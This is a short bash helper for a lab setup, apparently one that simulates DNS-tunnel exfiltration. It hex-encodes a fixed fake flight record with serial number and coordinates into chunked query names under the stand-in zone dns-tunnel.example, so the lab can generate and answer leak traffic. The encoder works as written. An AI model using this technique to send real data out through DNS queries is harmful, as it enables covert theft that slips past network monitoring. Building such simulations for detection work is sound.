# shellcheck shell=bash
# Sourced by scripts/lab and scripts/lab-app: the DNS-exfiltration payload
# and the query names that carry it. Both sides derive the names from the same
# fixed payload so the lab resolver can answer each TXT question (a tunnel's
# server answers; an unanswered leak would look less like the real thing).

# A small "flight summary" the app smuggles out through DNS questions.
FW_EXFIL_PAYLOAD='SN=1ZNBJ7A00C0001;lat=46.51234;lon=6.63201;alt=118;t=1732580000'
FW_EXFIL_ZONE='dns-tunnel.example'
FW_EXFIL_CHUNK_HEX=30  # hex characters per label (15 payload bytes)

# Prints one query name per line: <hex-chunk>.<seq>.dns-tunnel.example
fw_exfil_names() {
  local hex seq=0
  hex=$(printf '%s' "$FW_EXFIL_PAYLOAD" | od -An -v -tx1 | tr -d ' \n')
  while [[ -n "$hex" ]]; do
    printf '%s.%d.%s\n' "${hex:0:FW_EXFIL_CHUNK_HEX}" "$seq" "$FW_EXFIL_ZONE"
    hex=${hex:FW_EXFIL_CHUNK_HEX}
    seq=$((seq + 1))
  done
}
